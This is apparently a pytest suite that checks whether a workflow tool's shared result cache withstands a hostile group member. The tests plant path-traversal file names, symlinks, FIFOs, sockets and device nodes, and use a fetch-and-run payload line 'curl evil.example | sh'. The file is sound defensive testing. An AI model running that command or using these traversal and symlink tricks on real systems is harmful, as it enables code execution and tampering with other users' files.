"""A member of the group manipulates what a results folder shares; another one's job then runs.

Whatever was planted, nothing outside the study's folder changes. The job computes again, or ends with an error that
names the file. Manifests, hashes and sizes fit, so that only the names and kinds of files tell an entry apart.
"""

import json
import os
import random
import shutil
import socket
import stat
import subprocess
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from tests.core.other_users import ALICE, BOB, as_user, compute, notes, shared_results
from tests.core.stressed_stage import content
from workflow_scripts.core.artifact import Artifact
from workflow_scripts.core.cache import file_hash, stored, whole_entry
from workflow_scripts.core.files.bounded_json import Unfit
from workflow_scripts.core.files.jsonio import digest, pretty
from workflow_scripts.core.files.notes import sealed, unsealed

pytestmark = pytest.mark.skipif(os.getuid() != 0, reason="only root can start processes of other users")
SEED = 7
MANY = 99  # pieces that no job reaches: it then does not sleep
PAYLOAD = b"curl evil.example | sh\n"
DEEP = [f"/{'../' * depth}{file}" for depth in range(1, 8) for file in ("home/.profile", "other/stressed/1.bin")]
BESIDE = [f".x/{'../' * depth}home/.profile" for depth in range(1, 8)]
ODD = ["", ".", "..", "/", "/.", "/..", "//", "x", "./x", "../x", "/x/", ".x/", ".x/y", "/x//y", "/./x", "/x/."]
ODD += ["//etc/passwd", "~/.profile", "\\..\\..\\home\\.profile", ".x\\y", "/x\0y", ".x\ny", ".\x1b[2Jx", "/x\x7fy"]
ODD += [".\u202egnp", "/\u2066x", ".x\u2028y", "/\ufeffx", ".\u200bx", f".{'x' * 300}", f"/{'x/' * 100}x"]
ODD += ["/x/./y", ".manifest.json", ".b.manifest.json", ".run.json", "/x.manifest.json"]


def drawn(count: int) -> list[str]:
    """Suffixes of random parts, of which at least one leads elsewhere or is not plain."""
    chance = random.Random(SEED)
    plain, bad = ["deep", "x.json", "1", "ä", "last.safetensors"], ["..", ".", "", "a\tb", "\x9b1m", "\u202ex", "b\\c"]
    found = []
    for _ in range(count):
        parts = chance.choices(plain, k=chance.randint(0, 3)) + chance.choices(bad, k=chance.randint(1, 4))
        chance.shuffle(parts)
        found.append(f"/{'/'.join(parts)}")
    return found


SUFFIXES = [("files", suffix) for suffix in (*DEEP, *BESIDE, *ODD, *drawn(30))]
SUFFIXES += [("beside", suffix) for suffix in (*DEEP, *BESIDE, *ODD[::2])]
# Those that lead to the folder around the entries, to the results and to what is beside them, and odd ones.
FOLLOWED = [(where, one) for where in ("files", "beside") for one in (*DEEP[6:12], BESIDE[5], ODD[2], ODD[16], ODD[29])]


class Shared:
    """A results folder with an entry that Alice made, and Bob's files beside it."""

    def __init__(self, results: Path) -> None:
        self.results, self.home = results, results.with_name("home")
        [self.entry] = results.glob(".cache/stressed/*")

    def plant(self, work: Callable[[Path], object]) -> None:
        """Let Alice do something to her entry."""
        assert as_user(ALICE, lambda: work(self.entry)) == 0

    def run(self) -> tuple[int, str]:
        """Exit status and last error of Bob's job; it changes nothing of his home and of the other study."""
        before = self._outside()
        status = compute(self.results, BOB, 1, pieces=MANY)
        assert self._outside() == before
        return status, (self.results.parent / str(BOB) / "printed.txt").read_text().rpartition("error: ")[2].strip()

    def _outside(self) -> dict[Path, tuple[int, int, int, bytes]]:
        found = {}
        for folder in (self.home, self.results / "other"):
            for path in (folder, *folder.rglob("*")):
                status = path.lstat()
                content = path.read_bytes() if stat.S_ISREG(status.st_mode) else b""
                found[path] = status.st_mode, status.st_uid, status.st_mtime_ns, content
        return found

    def check(self) -> None:
        """Bob's artifact is the one that the stage makes."""
        made = Artifact(self.results / "study/stressed/1.manifest.json")
        assert made.suffixes == [".bin", "/deep/hash.txt"]
        assert made.path(".bin").read_bytes() == content(1)


@pytest.fixture(scope="module")
def made() -> Iterator[Path]:
    """The folder that each test has a copy of."""
    with shared_results() as results:
        home = results.with_name("home")
        for file in (".profile", ".ssh/authorized_keys", "photos/1.jpg", "photos/deep/2.jpg"):
            (home / file).parent.mkdir(parents=True, exist_ok=True)
            (home / file).write_bytes(b"Bob's own")
            (home / file).chmod(0o444)
        for path in (home, *home.rglob("*")):
            os.chown(path, BOB, BOB)
        assert compute(results, ALICE, 1, "other", MANY) == 0
        yield results.parent


@pytest.fixture
def shared(made: Path) -> Iterator[Shared]:
    with shared_results() as results:
        subprocess.run(["cp", "-a", f"{made}/.", str(results.parent)], check=True)
        yield Shared(results)


def name_file(entry: Path, where: str, suffix: str) -> None:
    """Let the entry name a file, put that file where the name leads to, and write a record that fits."""
    source = str(stored(entry, suffix))
    with suppress(OSError, ValueError):
        os.makedirs(os.path.dirname(source), exist_ok=True)
        Path(source).write_bytes(PAYLOAD)
    payload = entry / "payload"
    payload.write_bytes(PAYLOAD)
    manifest, record = (json.loads((entry / name).read_bytes()) for name in ("manifest.json", "run.json"))
    (manifest if where == "files" else record)[where][suffix] = {"sha256": file_hash(payload), "bytes": len(PAYLOAD)}
    payload.unlink()
    for name, new in (
        ("manifest.json", manifest),
        ("run.json", sealed(unsealed(record) | {"manifest": digest(manifest)})),
    ):
        (entry / name).write_bytes(pretty(new))


@pytest.mark.parametrize(("where", "suffix"), SUFFIXES, ids=lambda one: ascii(one)[:40])
def test_an_entry_that_names_other_files_is_refused_and_computed_again(shared: Shared, where: str, suffix: str) -> None:
    shared.plant(lambda entry: name_file(entry, where, suffix))
    with pytest.raises(Unfit, match=r"^(manifest|run)\.json: "):
        whole_entry(shared.entry)
    if (where, suffix) in FOLLOWED:  # a job takes a second
        assert shared.run()[0] == 0
        assert notes(shared.results, BOB) == ["computed 1"]
        shared.check()


def instead(name: str, make: Callable[[Path, Path], object]) -> Callable[[Path], None]:
    """Move a file or folder of the entry away, and put something in its place."""

    def work(entry: Path) -> None:
        path = entry / name
        other = path.rename(entry.parents[2] / "moved")
        make(path, other)

    return work


def fifo(path: Path, _: Path) -> None:
    os.mkfifo(path)


def listening(path: Path, _: Path) -> None:
    os.chdir(path.parent)  # names of sockets are short
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(path.name)


KINDS: dict[str, Callable[[Path], object]] = {
    "a link to the data": instead("files/_.bin", Path.symlink_to),
    "a link to the folder": instead("files/_", Path.symlink_to),
    "a link to the folder in it": instead("files/_/deep", Path.symlink_to),
    "a link to all files": instead("files", Path.symlink_to),
    "a link to the manifest": instead("manifest.json", Path.symlink_to),
    "a link to the record": instead("run.json", Path.symlink_to),
    "a link to the entry": instead("", Path.symlink_to),
    "a link to a file beside": instead("files/_.times.txt", Path.symlink_to),
    "a link that leads nowhere": instead("files/_.bin", lambda path, _: path.symlink_to("nowhere")),
    "a link to itself": instead("files/_.bin", lambda path, _: path.symlink_to(path.name)),
    "an entry that leads nowhere": instead("", lambda path, _: path.symlink_to("nowhere")),
    "a link to a device": instead("files/_.bin", lambda path, _: path.symlink_to("/dev/zero")),
    "a FIFO": instead("files/_.bin", fifo),
    "a FIFO as the record": instead("run.json", fifo),
    "a FIFO as the entry": instead("", fifo),
    "a socket": instead("files/_.times.txt", listening),
    "a folder": instead("files/_.bin", lambda path, _: path.mkdir()),
    "a file as the entry": instead("", lambda path, _: path.touch()),
    "a link that nothing names": lambda entry: (entry / "files/_/more").symlink_to(entry.parents[3] / "home"),
}


@pytest.mark.parametrize("kind", KINDS)
def test_an_entry_that_holds_more_than_files_is_computed_again(shared: Shared, kind: str) -> None:
    shared.plant(KINDS[kind])
    assert shared.run()[0] == 0
    assert notes(shared.results, BOB) == ["computed 1"]
    shared.check()
    assert not list(shared.results.glob(".cache/stressed/.discarded-*"))


def test_a_device_in_an_entry_is_not_opened(shared: Shared) -> None:
    path = shared.entry / "files/_.bin"
    path.unlink()
    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    assert shared.run()[0] == 0
    shared.check()


def test_an_entry_with_another_hard_link_is_used(shared: Shared) -> None:
    shared.plant(lambda entry: os.link(entry / "files/_.bin", entry.parents[2] / "again"))
    assert shared.run()[0] == 0
    assert notes(shared.results, BOB) == []
    shared.check()


def test_a_bad_entry_that_can_not_be_removed_is_named(shared: Shared) -> None:
    def plant(entry: Path) -> None:
        name_file(entry, "files", DEEP[6])
        entry.parent.chmod(0o2755)

    shared.plant(plant)
    status, last = shared.run()
    assert status == 1 and last.startswith(f"storage error of stressed in {shared.entry}: Permission denied"), last
    assert f"belongs to user {ALICE}" in last


def test_files_of_a_bad_entry_that_can_not_be_removed_are_left_aside(shared: Shared) -> None:
    def plant(entry: Path) -> None:
        name_file(entry, "files", DEEP[6])
        (entry / "files").chmod(0o2755)

    shared.plant(plant)
    for _ in range(2):
        assert shared.run()[0] == 0
    assert notes(shared.results, BOB) == ["computed 1"]
    shared.check()


PLACES: dict[str, tuple[str, Callable[[Path, Path], None]]] = {
    "the lock of the key": (".work/stressed/{key}.lock", lambda path, home: path.symlink_to(home / ".profile")),
    "a lock that blocks": (".work/stressed/{key}.lock", fifo),
    "the work folder": (".work/stressed/{key}", lambda path, home: path.symlink_to(home)),
    "a file of the work folder": (".work/stressed/{key}/busy", lambda path, home: path.symlink_to(home / ".profile")),
    "the artifact's own folder": ("study/stressed/1", lambda path, home: path.symlink_to(home / "photos")),
    "a folder in it": ("study/stressed/1/deep", lambda path, home: path.symlink_to(home / "photos")),
}


@pytest.mark.parametrize("place", PLACES)
def test_a_symbolic_link_at_an_output_path_is_an_error(shared: Shared, place: str) -> None:
    name, make = PLACES[place]
    for file in shared.home.rglob("*"):
        file.chmod(0o644 if file.is_file() else 0o755)

    def plant(entry: Path) -> None:
        os.umask(0o002)
        path = shared.results / name.format(key=entry.name)
        path.parent.mkdir(parents=True, exist_ok=True)
        make(path, shared.home)
        if name.startswith(".work"):
            shutil.rmtree(entry)

    shared.plant(plant)
    status, last = shared.run()
    assert status == 1
    assert name.format(key=shared.entry.name).rsplit("/busy")[0] in last and "remove it" in last, last
